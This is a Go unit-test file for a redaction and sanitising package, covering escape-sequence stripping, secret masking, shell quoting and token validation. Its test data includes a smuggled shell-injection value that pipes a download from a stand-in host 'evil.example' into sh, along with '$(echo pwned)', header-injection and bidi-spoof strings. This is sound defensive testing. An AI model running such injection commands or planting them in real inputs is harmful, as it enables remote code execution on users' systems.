package redact

import (
	"os/exec"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestText(t *testing.T) {
	const tok = "AT-s3cr3tToken"
	for _, tt := range []struct {
		name    string
		in      string
		max     int
		secrets []string
		want    string
	}{
		{"plain", "invalid_token", 50, nil, "invalid_token"},
		{"OSC title and BEL", "ok\x1b]0;owned\x07 done", 50, nil, "ok]0;owned done"},
		{"CSI clear screen", "a\x1b[2Jb", 50, nil, "a[2Jb"},
		{"C1 CSI", "a\u009b2Jb", 50, nil, "a2Jb"},
		{"DEL and NUL", "a\x7fb\x00c", 50, nil, "abc"},
		{"CR LF TAB are spaces", "line1\r\nline2\tend", 50, nil, "line1 line2 end"},
		{"other spaces", "a\u0085b\u00a0c\u2028d\u2029e\u3000f\v\fg", 50, nil, "a b c d e f g"},
		{"runs collapse and trim", "  a  \t\n b   ", 50, nil, "a b"},
		{"bidi overrides", "evil\u202egnp.exe\u202c", 50, nil, "evilgnp.exe"},
		{"bidi isolates and marks", "\u2066a\u2067b\u2068c\u2069\u200ed\u200fe\u061cf\u202a\u202b\u202d", 50, nil, "abcdef"},
		{"zero width and BOM", "a\u200bb\u200cc\u200dd\u2060e\ufefff", 50, nil, "abcdef"},
		{"tags, variation selectors, fillers", "a\U000E0041b\ufe0fc\u3164d\u115fe\u034ff", 50, nil, "abcdef"},
		{"private use and non-characters", "a\ue000b\uffffc\U0010fffdd", 50, nil, "abcd"},
		{"invalid UTF-8 and U+FFFD", "a\xffb\xc3c\ufffdd", 50, nil, "abcd"},
		{"unicode text is kept", "Zürich – 東京 ✓ é", 50, nil, "Zürich – 東京 ✓ é"},
		{"only junk", "\x1b\u202e \t\u200b", 50, nil, ""},
		{"cut with ellipsis", "abcdefghij", 5, nil, "abcde…"},
		{"cut on runes", "ééééé", 3, nil, "ééé…"},
		{"no trailing space before ellipsis", "abcd efgh", 5, nil, "abcd…"},
		{"exactly max", "abcde", 5, nil, "abcde"},
		{"max 0 is the default", strings.Repeat("x", 300), 0, nil, strings.Repeat("x", DefaultMax) + "…"},
		{"secret", "the token " + tok + " has expired", 200, []string{tok}, "the token *** has expired"},
		{"secret lowercased", "expected JSON, got text/x-" + strings.ToLower(tok), 200, []string{tok}, "expected JSON, got text/x-***"},
		{"secret joined by a dropped control", "AT-s3cr3t\x1bToken", 200, []string{tok}, "***"},
		{"secret joined by a dropped bidi mark", "AT-s3cr3t\u200eToken!", 200, []string{tok}, "***!"},
		{"secret joined by collapsed space", "x\u200b" + tok, 200, []string{tok}, "x***"},
		{"secret at the cut is masked first", "aaaa " + tok, 8, []string{tok}, "aaaa ***"},
		{"secret straddling the cut", "aaaa " + tok + " tail", 6, []string{tok}, "aaaa *…"},
		{"two secrets", "a=RT-refresh1 b=" + tok, 200, []string{tok, "RT-refresh1"}, "a=*** b=***"},
		{"empty secret ignored", "abc", 200, []string{""}, "abc"},
		{"mask forms the secret again", "*****", 200, []string{"****"}, "***"},
		{"secret holding another", "xxABCDEFxx", 200, []string{"BCD", "ABCDEF"}, "xx***xx"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := Text(tt.in, tt.max, tt.secrets...)
			if got != tt.want {
				t.Errorf("Text(%q, %d) = %q, want %q", tt.in, tt.max, got, tt.want)
			}
		})
	}
}

// A huge input is cut; secrets joined by dropped characters are masked
// whatever comes before them, so no prefix of one reaches the cut.
func TestTextHugeInput(t *testing.T) {
	sec := strings.Repeat("S", 1000)
	joined := sec[:500] + "\x1b" + sec[500:] + " "
	if got := Text(strings.Repeat(joined, 5), 100, sec); got != strings.TrimSpace(strings.Repeat("*** ", 5)) {
		t.Errorf("got %q", got)
	}
	in := strings.Repeat("\x1b[2J<", 1<<20)
	got := Text(in, 10)
	if got != strings.Repeat("[2J<", 3)[:10]+"…" {
		t.Errorf("got %q", got)
	}
}

func TestCode(t *testing.T) {
	const tok = "AT-s3cr3tToken"
	for _, tt := range []struct {
		in      string
		secrets []string
		want    string
	}{
		{"invalid_grant", nil, "invalid_grant"},
		{"", nil, "unknown_error"},
		{"\x1b\"\\ \u202e", nil, "unknown_error"},
		{"invalid grant", nil, "invalidgrant"},
		{"bad\"code\\x\x1b[2J\r\nÄ", nil, "badcodex[2J"},
		{strings.Repeat("a", 100), nil, strings.Repeat("a", 64)},
		{"token_" + tok, []string{tok}, "token_***"},
		{"token_AT-s3cr3t Token", []string{tok}, "token_***"},
		{"x_" + strings.ToLower(tok), []string{tok}, "x_***"},
		{strings.Repeat("b", 60) + "AT-s3cr3t\x00Token", []string{tok}, strings.Repeat("b", 60) + "***"},
		{strings.Repeat("AT-s3cr3t\x00Token", 30), []string{tok}, strings.Repeat("***", 22)[:64]},
	} {
		if got := Code(tt.in, tt.secrets...); got != tt.want {
			t.Errorf("Code(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestShellQuote(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"docs.write", "docs.write"},
		{"https://api.example.com/docs:read", "https://api.example.com/docs:read"},
		{"", "''"},
		{"a b", "'a b'"},
		{"it's", `'it'\''s'`},
		{"docs.write'; curl -s https://evil.example/x | sh; echo '", `'docs.write'\''; curl -s https://evil.example/x | sh; echo '\'''`},
		{"$(id)", "'$(id)'"},
		{"`id`", "'`id`'"},
		{"a\\b", `'a\b'`},
		{"~root", "'~root'"},
		{"*", "'*'"},
		{"-", "-"},
	} {
		if got := ShellQuote(tt.in); got != tt.want {
			t.Errorf("ShellQuote(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}

// The quoted form reads back as the same single argument in a real shell.
func TestShellQuoteRoundTrip(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	for _, in := range []string{"", "a b", "it's", "''", `\'`, "docs.write'; echo pwned; echo '", "$(echo pwned)", "`x`", "a\nb", "!x", "é ü", "'''a'''"} {
		out, err := exec.Command(sh, "-c", "printf %s "+ShellQuote(in)).Output()
		if err != nil {
			t.Errorf("%q: %v", in, err)
			continue
		}
		if string(out) != in {
			t.Errorf("sh read %q back as %q", in, out)
		}
	}
}

func TestPlainScope(t *testing.T) {
	for in, want := range map[string]bool{
		"docs.write":                    true,
		"api://sesame/read":             true,
		"https://graph.example.com/x.y": true,
		"a-b_c:d/e.f":                   true,
		strings.Repeat("s", 128):        true,
		strings.Repeat("s", 129):        false,
		"":                              false,
		"docs write":                    false,
		"docs.write';sh":                false,
		"a$b":                           false,
		"a\x1b":                         false,
		"é":                             false,
		"a=b":                           false,
	} {
		if got := PlainScope(in); got != want {
			t.Errorf("PlainScope(%q) = %v, want %v", in, got, want)
		}
	}
}

func TestCheckToken(t *testing.T) {
	long := strings.Repeat("a", MaxToken)
	for _, tt := range []struct {
		in   string
		want error
	}{
		{"abc", nil},
		{"sesame_live_AbC-123._~+/", nil},
		{"eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", nil},
		{"Zm9vYg==", nil},
		{"a=", nil},
		{long, nil},
		{long + "a", ErrTokenTooLong},
		{"", ErrTokenEmpty},
		{"=", ErrTokenCharset},
		{"==abc", ErrTokenCharset},
		{"ab=c", ErrTokenCharset},
		{"a b", ErrTokenCharset},
		{"abc\r\nX-Injected: 1", ErrTokenCharset},
		{"abc\x1b[2J", ErrTokenCharset},
		{"abc\t", ErrTokenCharset},
		{`abc"`, ErrTokenCharset},
		{"abc,def", ErrTokenCharset},
		{"tökén", ErrTokenCharset},
		{"abc\x00", ErrTokenCharset},
	} {
		err := CheckToken(tt.in)
		if err != tt.want {
			t.Errorf("CheckToken(%.40q) = %v, want %v", tt.in, err, tt.want)
		}
	}
	// the message is a short lowercase phrase that never holds the token
	for _, err := range []error{ErrTokenEmpty, ErrTokenTooLong, ErrTokenCharset} {
		if msg := err.Error(); !strings.HasPrefix(msg, "token ") || strings.HasSuffix(msg, ".") || utf8.RuneCountInString(msg) > 60 {
			t.Errorf("message %q", msg)
		}
	}
}

// Secrets masks every form of a secret and leaves the rest as it is
// (leading spaces, control characters: the caller's own layout).
func TestSecrets(t *testing.T) {
	got := Secrets("  1. tok_ABC123 and TOK_abc123?\t<x>", "tok_ABC123", "TOK_abc123")
	if want := "  1. *** and ***?\t<x>"; got != want {
		t.Errorf("Secrets = %q, want %q", got, want)
	}
	if got := Secrets("a tok_abc123 b", "TOK_ABC123"); got != "a *** b" {
		t.Errorf("lowercase form: %q", got)
	}
}
